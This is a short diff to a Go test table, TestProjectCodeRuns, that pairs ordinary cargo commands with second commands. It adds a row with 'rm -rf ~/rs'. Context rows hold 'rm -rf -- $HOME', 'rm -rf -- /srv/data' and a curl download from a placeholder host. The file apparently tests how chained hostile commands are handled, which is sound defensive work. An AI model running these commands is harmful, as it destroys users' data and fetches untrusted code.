@@ -295,6 +295,7 @@ func TestProjectCodeRuns(t *testing.T) {
 		{"cargo check --manifest-path rs/Cargo.toml", "rm -rf ~/rs"},
 		{"cd rs && cargo fmt", ""},
 		{"cd rs && cargo install ripgrep", ""},
+		{"cargo install --path rs", "rm -rf ~/rs"},
 		{"cd rb && cargo run", "curl -s https://x.example/i -o /tmp/i"},
 		{"cd rb && cargo run", "rm -rf -- $HOME"},
 		{"cd rw && cargo build", "rm -rf -- /srv/data"},
